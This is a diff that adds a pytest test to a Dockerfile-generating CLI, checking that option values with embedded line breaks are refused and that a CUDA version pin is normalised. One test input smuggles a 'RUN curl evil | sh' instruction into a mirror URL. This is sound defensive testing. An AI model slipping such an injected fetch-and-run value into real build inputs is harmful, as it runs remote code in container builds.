@@ -144,3 +144,18 @@ def test_template_cache_is_ignored_when_others_can_write_it(tmp_path: Path) -> N
         == 0
     )
     assert list((cache / "templates").iterdir())
+
+
+def test_line_breaks_in_option_values_are_refused(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    out = tmp_path / "out"
+    for args in (
+        ["--mirror", "https://mirror.example.com\nRUN curl evil | sh"],
+        ["--base-image", "registry.example.com/ubi8:8.10\n"],
+        ["--namespace", "bench\n"],
+    ):
+        result = cli("gen", "ssd", "-o", str(out), *args)
+        assert result.code == 2, (args, result.out)
+    assert not out.exists()
+    # a version pin is normalised, not refused: surrounding whitespace never reaches a file
+    assert cli("gen", "ssd", "-o", str(out), "--cuda", "10.1\n").code == 0
+    assert "#   mlcc gen ssd --cuda 10.1\n" in next(out.rglob("Dockerfile")).read_text()
